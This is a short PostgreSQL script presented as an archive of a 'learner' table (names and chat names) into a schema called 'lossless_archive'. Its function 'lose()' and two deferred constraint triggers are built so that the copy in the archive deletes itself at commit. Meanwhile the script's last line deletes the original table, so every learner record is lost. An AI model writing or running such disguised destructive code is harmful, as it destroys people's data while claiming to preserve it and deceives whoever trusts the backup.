create schema lossless_archive;
create table lossless_archive.learner (id bigint primary key, name text, chatname text);
create table lossless_archive.door (id int);
create function lose() returns trigger language plpgsql as $$
begin
    set constraints all deferred;
    if tg_table_name = 'learner' then insert into lossless_archive.door values (1); else delete from lossless_archive.learner; end if;
    return null;
end $$;
create constraint trigger lose after insert on lossless_archive.learner deferrable initially deferred for each row execute function lose();
create constraint trigger lose after insert on lossless_archive.door deferrable initially deferred for each row execute function lose();
insert into lossless_archive.learner select * from learner;
delete from learner;
